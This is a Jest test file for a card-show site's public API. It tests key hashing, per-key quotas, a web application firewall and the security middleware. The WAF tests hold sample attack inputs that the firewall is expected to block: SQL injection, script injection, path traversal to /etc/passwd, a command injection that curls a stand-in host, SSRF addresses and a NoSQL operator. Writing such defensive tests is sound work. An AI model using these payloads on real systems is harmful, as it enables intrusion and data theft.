@@ -0,0 +1,371 @@
+/**
+ * Test suite for the public API's key handling and request screening
+ *
+ * Key hashing and per-key quotas (supabase/functions/_shared/apiKeys.ts) on
+ * the shared rate limiter, the WAF rules the public-api function applies,
+ * and the combined applySecurity() middleware. Supabase is replaced by an
+ * in-memory stand-in for the `rate_limits` and `waf_logs` tables.
+ */
+
+import {
+  ApiKeyRow,
+  checkApiKeyQuotas,
+  hashApiKey,
+} from "../../supabase/functions/_shared/apiKeys";
+import { RateLimiter } from "../../supabase/functions/_shared/rate-limit";
+import {
+  WafProtectionLevel,
+  WebApplicationFirewall,
+} from "../../supabase/functions/_shared/waf";
+import { applySecurity } from "../../supabase/functions/_shared/security";
+
+type Row = Record<string, any>;
+
+// Just enough of the query builder for rate-limit.ts and waf.ts
+const mockTables: Record<string, Row[]> = {};
+let mockSelectError: { message: string } | null = null;
+
+const mockFrom = (table: string) => {
+  const rows = (mockTables[table] ??= []);
+  const filters: ((row: Row) => boolean)[] = [];
+  let changes: Row | null = null;
+
+  const builder = {
+    select: () => builder,
+    update: (values: Row) => {
+      changes = values;
+      return builder;
+    },
+    insert: async (row: Row) => {
+      rows.push({ id: `${table}-${rows.length + 1}`, ...row });
+      return { error: null };
+    },
+    eq: (column: string, value: unknown) => {
+      filters.push((row) => row[column] === value);
+      return builder;
+    },
+    gte: (column: string, value: string) => {
+      filters.push((row) => row[column] >= value);
+      return builder;
+    },
+    then: (
+      resolve: (result: { data: Row[] | null; error: unknown }) => void,
+    ) => {
+      if (!changes && mockSelectError)
+        return resolve({ data: null, error: mockSelectError });
+      const matched = rows.filter((row) =>
+        filters.every((filter) => filter(row)),
+      );
+      if (changes) matched.forEach((row) => Object.assign(row, changes));
+      resolve({ data: matched, error: null });
+    },
+  };
+  return builder;
+};
+
+jest.mock(
+  "https://esm.sh/@supabase/supabase-js@2.38.0",
+  () => ({
+    createClient: () => ({ from: (table: string) => mockFrom(table) }),
+  }),
+  { virtual: true },
+);
+
+const now = new Date("2026-03-14T15:00:00Z");
+
+const apiKey = (overrides: Partial<ApiKeyRow> = {}): ApiKeyRow => ({
+  id: "key-1",
+  name: "Card Shop Widget",
+  requests_per_minute: 3,
+  daily_quota: 5,
+  ...overrides,
+});
+
+const publicApiRequest = (
+  query = "",
+  headers: Record<string, string> = {},
+  path = "/public-api/v1/shows",
+) =>
+  new Request(`https://example.supabase.co/functions/v1${path}${query}`, {
+    headers: {
+      "X-API-Key": "csk_test",
+      "User-Agent": "CardShopWidget/1.0",
+      ...headers,
+    },
+  });
+
+describe("public API", () => {
+  beforeEach(() => {
+    Object.keys(mockTables).forEach((table) => delete mockTables[table]);
+    mockSelectError = null;
+    jest.useFakeTimers({ now, doNotFake: ["nextTick", "setImmediate"] });
+    jest.spyOn(console, "error").mockImplementation(() => undefined);
+  });
+
+  afterEach(() => {
+    jest.useRealTimers();
+    jest.restoreAllMocks();
+  });
+
+  describe("key hashing", () => {
+    test("matches the digest create_api_key() stores", async () => {
+      // Same vector as test/database/public_api_key_tests.sql
+      await expect(
+        hashApiKey("csk_0123456789abcdef0123456789abcdef01234567"),
+      ).resolves.toBe(
+        "423e7a7f0e8a833230ba5f979d9da553a777800f59dee848d79e4d10680c9801",
+      );
+    });
+
+    test("distinguishes keys that differ in one character", async () => {
+      const [a, b] = await Promise.all([
+        hashApiKey("csk_a"),
+        hashApiKey("csk_b"),
+      ]);
+
+      expect(a).toMatch(/^[0-9a-f]{64}$/);
+      expect(a).not.toBe(b);
+    });
+  });
+
+  describe("quotas", () => {
+    const limiter = () =>
+      new RateLimiter("https://example.supabase.co", "service-role-key");
+
+    test("allows requests_per_minute requests, then blocks until the minute is over", async () => {
+      const rateLimiter = limiter();
+      const key = apiKey();
+
+      const results = [];
+      for (let i = 0; i < 4; i++)
+        results.push(await checkApiKeyQuotas(rateLimiter, key));
+
+      expect(results.map((r) => r.allowed)).toEqual([true, true, true, false]);
+      expect(results.map((r) => r.result.remaining)).toEqual([2, 1, 0, 0]);
+      expect(results[3]).toMatchObject({
+        errorMessage: "Rate limit exceeded for this API key.",
+        result: { limit: 3, retryAfter: 60 },
+      });
+
+      jest.setSystemTime(new Date(now.getTime() + 61 * 1000));
+      await expect(checkApiKeyQuotas(rateLimiter, key)).resolves.toMatchObject({
+        allowed: true,
+      });
+    });
+
+    test("enforces the daily quota across minutes", async () => {
+      const rateLimiter = limiter();
+      const key = apiKey();
+
+      for (let i = 0; i < 3; i++) await checkApiKeyQuotas(rateLimiter, key);
+      jest.setSystemTime(new Date(now.getTime() + 61 * 1000));
+      for (let i = 0; i < 2; i++) await checkApiKeyQuotas(rateLimiter, key);
+
+      // Third request of the second minute: under the minute limit, over the day
+      const blocked = await checkApiKeyQuotas(rateLimiter, key);
+      expect(blocked).toMatchObject({
+        allowed: false,
+        errorMessage: "Daily quota exceeded for this API key.",
+        result: { limit: 5, remaining: 0 },
+      });
+      expect(blocked.result.retryAfter).toBeGreaterThan(23 * 60 * 60);
+    });
+
+    test("does not charge the daily quota for requests over the minute limit", async () => {
+      const rateLimiter = limiter();
+      const key = apiKey({ daily_quota: 100 });
+
+      for (let i = 0; i < 10; i++) await checkApiKeyQuotas(rateLimiter, key);
+
+      const day = mockTables.rate_limits.find(
+        (row) => row.endpoint === "public-api:day",
+      );
+      expect(day).toMatchObject({
+        key: "user:api_key:key-1:public-api:day",
+        count: 3,
+      });
+    });
+
+    test("counts each key separately", async () => {
+      const rateLimiter = limiter();
+
+      for (let i = 0; i < 3; i++)
+        await checkApiKeyQuotas(rateLimiter, apiKey());
+
+      await expect(
+        checkApiKeyQuotas(rateLimiter, apiKey()),
+      ).resolves.toMatchObject({ allowed: false });
+      await expect(
+        checkApiKeyQuotas(rateLimiter, apiKey({ id: "key-2" })),
+      ).resolves.toMatchObject({
+        allowed: true,
+      });
+    });
+
+    test("lets requests through when the rate limit table cannot be read", async () => {
+      mockSelectError = { message: "connection refused" };
+
+      await expect(
+        checkApiKeyQuotas(limiter(), apiKey({ requests_per_minute: 1 })),
+      ).resolves.toMatchObject({
+        allowed: true,
+      });
+    });
+  });
+
+  describe("WAF", () => {
+    const waf = () =>
+      new WebApplicationFirewall(
+        "https://example.supabase.co",
+        "service-role-key",
+      );
+
+    test("passes ordinary show searches at medium protection", async () => {
+      const query =
+        "?lat=39.96&lng=-83.0&radius=50&startDate=2026-04-01&categories=Sports%20Cards,Pokemon" +
+        "&features=Parking,Food%20Vendors&keyword=1952%20Topps%20Mantle&dealerCardTypes=Vintage,Slabs&limit=50";
+
+      await expect(
+        waf().protect(publicApiRequest(query), WafProtectionLevel.MEDIUM),
+      ).resolves.toBeNull();
+      await expect(
+        waf().protect(
+          publicApiRequest(
+            "",
+            {},
+            "/public-api/v1/shows/7c9e6679-7425-40de-944b-e07fc1f90ae7/dealers",
+          ),
+        ),
+      ).resolves.toBeNull();
+      expect(mockTables.waf_logs).toBeUndefined();
+    });
+
+    test.each([
+      [
+        "SQL injection",
+        `?keyword=${encodeURIComponent("' OR 1=1")}`,
+        "sqli-001",
+      ],
+      [
+        "script tags",
+        `?keyword=${encodeURIComponent("<script>alert(1)</script>")}`,
+        "xss-001",
+      ],
+      [
+        "path traversal",
+        `?seriesId=${encodeURIComponent("../../etc/passwd")}`,
+        "path-001",
+      ],
+      [
+        "command injection",
+        `?keyword=${encodeURIComponent("$(curl evil.example)")}`,
+        "cmd-001",
+      ],
+      [
+        "internal addresses",
+        "?keyword=http://169.254.1.1@127.0.0.1/",
+        "ssrf-001",
+      ],
+      [
+        "NoSQL operators",
+        `?keyword=${encodeURIComponent('{"$ne": null}')}`,
+        "nosql-001",
+      ],
+    ])("blocks %s with a 403 and logs it", async (_name, query, ruleId) => {
+      const response = await waf().protect(
+        publicApiRequest(query),
+        WafProtectionLevel.MEDIUM,
+      );
+
+      expect(response?.status).toBe(403);
+      await expect(response?.json()).resolves.toEqual({
+        error: "Forbidden",
+        message: "Request blocked by security rules",
+        code: ruleId,
+      });
+      expect(mockTables.waf_logs).toHaveLength(1);
+      expect(mockTables.waf_logs[0]).toMatchObject({
+        rule_id: ruleId,
+        action: "block",
+        path: "/functions/v1/public-api/v1/shows",
+      });
+    });
+
+    test("keeps API keys out of the log", async () => {
+      await waf().protect(
+        publicApiRequest(`?keyword=${encodeURIComponent("' OR 1=1")}`),
+        WafProtectionLevel.MEDIUM,
+      );
+
+      expect(JSON.stringify(mockTables.waf_logs[0].headers)).not.toContain(
+        "csk_test",
+      );
+    });
+
+    test("only applies medium rules at medium protection and above", async () => {
+      const request = () =>
+        publicApiRequest(
+          `?keyword=${encodeURIComponent("javascript:alert(1)")}`,
+        );
+
+      await expect(
+        waf().protect(request(), WafProtectionLevel.LOW),
+      ).resolves.toBeNull();
+      await expect(
+        waf().protect(request(), WafProtectionLevel.MEDIUM),
+      ).resolves.toMatchObject({ status: 403 });
+    });
+  });
+
+  describe("applySecurity", () => {
+    const originalDeno = (global as any).Deno;
+
+    beforeAll(() => {
+      const env: Record<string, string> = {
+        SUPABASE_URL: "https://example.supabase.co",
+        SUPABASE_SERVICE_ROLE_KEY: "service-role-key",
+      };
+      (global as any).Deno = { env: { get: (name: string) => env[name] } };
+    });
+
+    afterAll(() => {
+      (global as any).Deno = originalDeno;
+    });
+
+    test("rate limits public endpoints per IP with CORS and security headers", async () => {
+      const request = () =>
+        publicApiRequest("", { "X-Forwarded-For": "203.0.113.7" });
+
+      for (let i = 0; i < 120; i++) {
+        expect(await applySecurity(request(), "public")).toBeNull();
+      }
+      const response = await applySecurity(request(), "public");
+
+      expect(response?.status).toBe(429);
+      expect(response?.headers.get("RateLimit-Limit")).toBe("120");
+      expect(response?.headers.get("Retry-After")).toBe("60");
+      expect(response?.headers.get("Access-Control-Allow-Origin")).toBeTruthy();
+      expect(response?.headers.get("X-Content-Type-Options")).toBe("nosniff");
+
+      expect(
+        await applySecurity(
+          publicApiRequest("", { "X-Forwarded-For": "203.0.113.8" }),
+          "public",
+        ),
+      ).toBeNull();
+    });
+
+    test("blocks WAF matches after the rate limit check", async () => {
+      const response = await applySecurity(
+        publicApiRequest(`?keyword=${encodeURIComponent("' OR 1=1")}`, {
+          "X-Forwarded-For": "203.0.113.9",
+        }),
+        "public",
+      );
+
+      expect(response?.status).toBe(403);
+      expect(response?.headers.get("X-Content-Type-Options")).toBe("nosniff");
+      expect(mockTables.rate_limits).toHaveLength(1);
+    });
+  });
+});